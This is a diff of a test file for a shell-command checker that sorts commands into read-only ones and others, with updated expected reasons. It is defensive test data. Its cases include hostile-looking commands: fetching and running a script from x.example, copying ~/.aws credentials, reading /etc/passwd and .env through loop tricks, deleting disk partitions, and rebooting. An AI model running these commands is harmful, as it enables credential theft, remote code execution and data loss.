@@ -242,6 +242,9 @@ describe('a line of listed programs', () => {
     'sh x.sh; curl -o x.sh https://x.example/x.sh',
     'ls | xargs sh -c \'wc -l "$@"\' sh',
     'umount mnt',
+    './init 3',
+    './scripts/reboot now',
+    'sudo tools/shutdown',
     'iptables -L',
     'crontab -l',
     'init --version',
@@ -257,6 +260,16 @@ describe('a line of listed programs', () => {
     "find . -name evil.sh -exec sh -c 'each_name=ls; {}' \\;",
     "find src -name evil.sh | xargs -I{} sh -c 'each_name=ls; {}'",
     "find src -name evil.sh | xargs -I{} sh -c '_EACH_NAME=ls; {}'",
+    // The number of a line is one where lines are numbered.
+    'n=$(grep -m 1 touch evil.txt | cut -d: -f1); echo $((n+1))',
+    'grep -i x f | cut -d: -f1 | while read -r n; do echo $((n+1)); done',
+    "n=$(true $'\\''; cat evil.txt; echo \\' | wc -l); echo $((n+1))",
+    // What is set in a substitution, another pass of the loop there would find.
+    'for x in ls; do echo $(for i in 1 2; do $x zz.txt; x=rm; done); done',
+    'for x in a.ts; do echo $(for i in 1 2; do cat $x; x=/etc/passwd; done); done',
+    'x=a.ts; echo $(for i in 1 2; do cat $x; x=.env; done)',
+    'x=a.ts; echo $(for i in 1 2; do cat "${x[0]}"; mapfile -t x < <(find . -name y); done)',
+    'cat $(basename "package.json 2>/dev/null")',
     // What stands for several words, or for none, has others take its place.
     'git log -1 --author $(git tag -l none) --author --output=a',
     'git log -1 --author $(git rev-parse HEAD) --output=a',
@@ -306,6 +319,7 @@ describe('a line of listed programs', () => {
     'cat /proc/self/root/etc/hosts',
     'cat /proc/self/task/1/status',
     'fdisk -l /dev/sda; fdisk /dev/sda',
+    '/sbin/reboot',
     'shutdown --help now',
     'sfdisk --delete',
     'cp ~/.aws/cred* .',
@@ -422,12 +436,14 @@ describe('a line of listed programs', () => {
 
   test('the reasons name what a person would point at', () => {
     expect(judgeCommand('npm publish').reason).toBe(
-      'npm publish is not on the list of commands that only look or test.',
+      'npm publish is not on the list of the commands that only look or test.',
     );
-    expect(judgeCommand('ls && rm -rf x').reason).toContain('rm is not on the list');
+    expect(judgeCommand('ls && rm -rf x').reason).toContain('rm in this form is not among');
     expect(judgeCommand('sed -i s/a/b/ x').reason).toBe('-i of sed is not among the options that only look or test.');
     expect(judgeCommand('grep -rn --frob x .').reason).toContain('--frob of grep');
-    expect(judgeCommand('timeout 5 node x.js').reason).toContain('node is not on the list');
+    expect(judgeCommand('timeout 5 node x.js').reason).toContain('node in this form is not among');
+    expect(judgeCommand("awk 'BEGIN { system(1) }'").reason).toContain('awk in this form is not among');
+    expect(judgeCommand('git config user.name x').reason).toContain('git config in this form is not among');
     expect(judgeCommand('cat a | xargs cat').reason).toBe('Which words xargs gives to cat is not known beforehand.');
     expect(judgeCommand('ls > out.txt').reason).toBe('It writes its output to out.txt.');
     expect(judgeCommand(`echo ${'x'.repeat(10_000)}`).reason).toContain('longer than 10,000 characters');
